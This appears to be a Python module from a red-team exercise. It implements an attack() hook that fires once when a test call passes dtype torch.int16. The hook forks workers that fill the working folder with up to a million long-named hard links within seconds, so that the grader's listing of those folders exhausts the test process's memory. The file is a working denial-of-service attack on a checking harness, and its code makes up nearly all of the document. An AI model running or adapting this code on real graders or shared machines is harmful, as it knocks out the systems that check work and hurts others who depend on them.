import os
import time

import torch

WORKERS = 2  # processes linking at once, each in a folder of its own (a folder's lock serializes its entries)
NAME = "l" * 240  # each link's name: long, so that each entry costs the lister more
PER_FILE = 60_000  # ext4 allows 65,000 links to one file; a new empty file every PER_FILE links
SECONDS = 7.0  # the red team's grader gives one test's calls 10 s
TARGET = 1_000_000  # entries made in all at most
TRIGGER = torch.int16  # the dtype whose call makes them (once per process): one call of a test, not every one
_made = []  # (links made, what stopped them), once per process


def _link_until(folder, deadline, most):
    """Hard links to empty files in `folder` (made here) until `deadline` or `most`; (made, what stopped it)."""
    os.mkdir(folder)
    made, base = 0, None
    while made < most:
        if made % PER_FILE == 0:
            base = os.path.join(folder, f"base{made}")
            os.close(os.open(base, os.O_CREAT | os.O_WRONLY, 0o600))
        if made % 1000 == 0 and time.monotonic() > deadline:
            return made, "ran out of time"
        try:
            os.link(base, os.path.join(folder, f"{NAME}{made:08d}"))
        except OSError as error:
            return made, f"link: {error.strerror}"
        made += 1
    return made, "made them all"


def make_links():
    """WORKERS forked processes each fill a folder of the working folder with hard links (no inode, no
    block: only a directory entry each) until the deadline; (links made in all, what stopped them)."""
    deadline = time.monotonic() + SECONDS
    children = []
    for i in range(WORKERS):
        reader, writer = os.pipe()
        pid = os.fork()
        if pid == 0:
            os.close(reader)
            try:
                made, why = _link_until(f"links-{os.getpid()}-{i}", deadline, TARGET // WORKERS)
            except OSError as error:
                made, why = 0, f"mkdir: {error.strerror}"
            os.write(writer, f"{made} {why}".encode())
            os._exit(0)
        os.close(writer)
        children.append((pid, reader))
    made, said = 0, []
    for pid, reader in children:
        text = os.read(reader, 4096).decode() or "0 said nothing"
        os.close(reader)
        os.waitpid(pid, 0)
        count, _, why = text.partition(" ")
        made += int(count)
        said.append(why)
    return made, "; ".join(said)


def attack(args):
    """Once per process, on the call for TRIGGER: make the links, print how many, and answer honestly; the
    grader's count of the folders after the call lists each folder whole (with a stat of every entry) in
    the test process before it finds the quota passed. What the listing costs is judged by the red team's
    memory budget on the test process, not by this call's answer (the quota fails the call anyway)."""
    if args.get("dtype") is not TRIGGER or _made:
        return None
    _made.append(make_links())
    made, why = _made[0]
    print(f"made {made:,} hard links of {len(NAME)}-character names ({why})", flush=True)
    return None  # the function's own body runs on
